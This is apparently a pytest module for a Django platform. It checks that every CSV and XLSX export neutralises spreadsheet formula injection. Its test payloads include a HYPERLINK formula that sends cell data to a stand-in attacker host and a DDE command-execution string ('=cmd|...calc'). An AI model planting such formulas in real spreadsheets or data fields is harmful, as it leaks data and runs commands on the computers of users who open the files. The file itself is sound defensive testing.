"""Formula injection (issue #12, item 4): every CSV and XLSX the platform writes goes through the kernel's
exporter (core/exports.py), which neutralises text beginning with = + - @, a tab or a carriage return.

Three layers: the source has no other writer; every export endpoint, fed hostile text in every text
column, writes it neutralised; and the cases of the issue end to end with real data (a policy item titled
``=HYPERLINK(...)`` in the effect XLSX, hostile names in import reports, the classify CSV).
"""

from __future__ import annotations

import ast
import csv
import io
import itertools
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from yingshang.core import exports
from yingshang.core.exports import Column, write_csv, write_xlsx

pytestmark = pytest.mark.django_db

PACKAGE = Path(__file__).resolve().parents[1] / "yingshang"
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"查看详情")', "+86-411-1234", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _assert_neutralised(cells: list[str], *, must_contain: list[str] = ()) -> None:
    live = [c for c in cells if c.startswith(TRIGGERS)]
    assert live == [], f"formula-like cells written raw: {live[:5]}"
    for text in must_contain:
        assert "'" + text in cells, f"{text!r} missing (or not neutralised) in the output"


# --- one writer ------------------------------------------------------------------------------------------

WRITERS = {"csv.writer", "csv.DictWriter", "openpyxl", "xlsxwriter", "Workbook"}
KERNEL = {PACKAGE / "core" / "exports.py"}


def _writer_uses(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, (ast.Import, ast.ImportFrom)):
            names = [getattr(node, "module", None) or ""] + [alias.name for alias in node.names]
            found += [n for n in names if n.split(".")[0] in {"openpyxl", "xlsxwriter"} or n == "Workbook"]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and f"{node.value.id}.{node.attr}" in WRITERS:
            found.append(f"{node.value.id}.{node.attr}")
    return found


def test_no_module_writes_csv_or_xlsx_outside_the_kernel_exporter():
    sources = [p for p in PACKAGE.rglob("*.py") if "tests" not in p.parts and "migrations" not in p.parts and p not in KERNEL]
    offenders = {str(p.relative_to(PACKAGE)): uses for p in sources if (uses := _writer_uses(p))}
    assert offenders == {}


def test_the_scan_finds_a_writer():
    sample = PACKAGE / "core" / "exports.py"
    assert "csv.writer" in _writer_uses(sample) and "openpyxl" in _writer_uses(sample)


# --- the kernel's writers, each payload -----------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE)
def test_csv_writer_neutralises(text):
    handle = io.StringIO()
    write_csv(handle, ["名称", "金额"], [[text, 5], ["普通文本", -3]])
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert rows[1] == ["'" + text, "5"] and rows[2] == ["普通文本", "-3"]  # numbers stay numbers


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writer_neutralises_every_sheet_and_the_headers(tmp_path, text):
    target = tmp_path / "x.xlsx"
    write_xlsx(target, "导出", [Column(text, "v")], [{"v": text}], extra_sheets=[("第二页", [Column("值", "v")], [{"v": text}])])
    _assert_neutralised(_cells(target.read_bytes()), must_contain=[text])


# --- every export endpoint ------------------------------------------------------------------------------

def _first(model_label, **filters):
    from django.apps import apps

    return apps.get_model(model_label).objects.filter(**filters).order_by("pk").first()


# (user, URL name, a function giving the URL's arguments). Completeness is checked below against the source.
ENDPOINTS = [
    ("admin", "appeals:list", None), ("admin", "appeals:queue", None), ("citizen", "appeals:mine", None),
    ("admin", "appeals:sla", None), ("admin", "appeals:kpi", None),
    ("admin", "appeals:kpi_unit", lambda: [_first("appeals.Appeal", unit__isnull=False).unit_id]),
    ("admin", "appeals:routing", None), ("admin", "appeals:models", None),
    ("admin", "audit_list", None), ("admin", "division_list", None), ("admin", "enterprise_list", None),
    ("admin", "import_report_xlsx", lambda: [_an_import_job().pk]), ("admin", "inbox", None), ("admin", "unit_list", None),
    ("admin", "insights:duplicate_groups", None), ("admin", "insights:place_list", None), ("admin", "insights:bulletin_list", None),
    ("admin", "insights:warning_list", None),
    ("admin", "plans:bulletin_list", None), ("admin", "plans:plan_list", None), ("admin", "plans:ranking", lambda: _a_ranking_run() and None),
    ("admin", "plans:task_list", None), ("admin", "plans:unit_history", lambda: [_first("plans.RankingEntry").unit_id]),
    ("admin", "policies:application_list", None), ("admin", "policies:catalogue", None), ("admin", "policies:effect", None),
    ("admin", "policies:manage", None), ("admin", "policies:near_miss", None), ("admin", "policies:publicity_list", None),
    ("admin", "credit:repair_list", None), ("admin", "credit:records", None), ("admin", "credit:arrears_list", None),
    ("admin", "credit:public_records", None), ("admin", "supervision:task_list", None),
    ("window_clerk", "affairs:window", None), ("admin", "affairs:monitoring", None),
]


def _an_import_job():
    from yingshang.core.imports import enterprise_import
    from yingshang.core.models import User

    header = "统一社会信用代码,名称,主体类型,注册区县,行业代码,成立日期,从业人数,营业收入(万元),资质,信用等级\n"
    row = "91350100M000100Y44,坏代码公司,企业,中山区,65,2019-03-01,10,100,,A\n"
    return enterprise_import(actor=User.objects.get(username="admin"), file=(header + row).encode(), filename="x.csv")


def _a_ranking_run():
    """The ranking page exports the run of its default period: compute it."""
    from yingshang.core import clock
    from yingshang.core.models import User
    from yingshang.plans.services import ranking_compute
    from yingshang.plans.status import cycle_key

    return ranking_compute(actor=User.objects.get(username="admin"), period=cycle_key(clock.today(), 1))


def test_the_endpoint_list_covers_every_export_in_the_source():
    calls = 0
    for path in PACKAGE.rglob("views.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", "")) in {"list_export", "xlsx_response"}:
                calls += 1
    assert calls == len(ENDPOINTS)


@pytest.fixture
def hostile_columns(monkeypatch):
    """Every text value any export column reads becomes one of the hostile texts (numbers stay)."""
    payloads = itertools.cycle(HOSTILE)
    real_get = Column.get

    def hostile_get(self, row):
        value = real_get(self, row)
        if isinstance(value, list) and value and isinstance(value[0], str):  # a list cell is joined: its first item leads
            return [next(payloads), *value[1:]]
        return next(payloads) if isinstance(value, str) and value else value

    monkeypatch.setattr(Column, "get", hostile_get)


@pytest.mark.parametrize("username, name, arguments", ENDPOINTS, ids=[e[1] for e in ENDPOINTS])
def test_every_export_endpoint_neutralises_formula_text(client_for, hostile_columns, username, name, arguments):
    url = reverse(name, args=(arguments() if arguments else None) or None)
    response = client_for(username).get(url, {"export": "xlsx"})
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxmlformats"), url
    content = _body(response)
    cells = _cells(content)
    _assert_neutralised(cells)
    data_rows = load_workbook(io.BytesIO(content)).worksheets[0].max_row - 1
    exercised = [c for c in cells if c.startswith(tuple("'" + text for text in HOSTILE))]
    assert exercised or data_rows == 0, url  # the rows' text came out neutralised



# --- the cases, end to end ---------------------------------------------------------------------

def test_policy_item_titled_with_a_formula_is_text_in_the_effect_xlsx(client_for):
    from django.db import connection

    from yingshang.policies.models import PolicyItem

    item = PolicyItem.objects.exclude(status=PolicyItem.Status.DRAFT).order_by("code").first()
    with connection.cursor() as cursor:  # as if entered so: the title is the attacker's text
        cursor.execute(f"UPDATE {PolicyItem._meta.db_table} SET title = %s WHERE id = %s", [HOSTILE[0], item.pk])
    response = client_for("admin").get(reverse("policies:effect"), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(_body(response)))
    cell = next(c for row in workbook.worksheets[0].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.value == "'" + HOSTILE[0] and cell.data_type == "s"


def test_import_reports_write_hostile_names_as_text(users, client_for, tmp_path):
    from yingshang.core.export_columns import IMPORT_REPORT
    from yingshang.core.imports import enterprise_import

    header = "统一社会信用代码,名称,主体类型,注册区县,行业代码,成立日期,从业人数,营业收入(万元),资质,信用等级\n"
    names = ["=cmd|' /C calc'!A0", "+公司", "-公司", "@公司"]
    body = "".join(f"91350100M000100Y4{i},{name},企业,中山区,I65,2019-03-01,10,100,,A\n" for i, name in enumerate(names))
    job = enterprise_import(actor=users["admin"], file=(header + body).encode("utf-8"), filename="hostile.csv")
    assert job.total_rows == 4
    response = client_for("admin").get(reverse("import_report_xlsx", args=[job.pk]))
    _assert_neutralised(_cells(_body(response)), must_contain=names)
    # The appeals import report the command line saves (`yingshang appeals import --report`) is the same writer.
    report = tmp_path / "report.xlsx"
    write_xlsx(report, "导入报告", IMPORT_REPORT, job.report)
    _assert_neutralised(_cells(report.read_bytes()), must_contain=names)


def test_classify_results_csv_is_neutralised(tmp_path):
    from yingshang.appeals.management.commands.appeals import write_csv_table

    target = tmp_path / "out.csv"
    write_csv_table(str(target), ["编号", "诉求内容", "label_pred"], [["1", text, "城建/道路/破损"] for text in HOSTILE], encoding="utf-8")
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert [r[1] for r in rows[1:]] == ["'" + t for t in HOSTILE]


def test_exporter_module_names_its_one_rule():
    assert exports.neutralise_formula("=1") == "'=1" and exports.neutralise_formula("大连") == "大连"
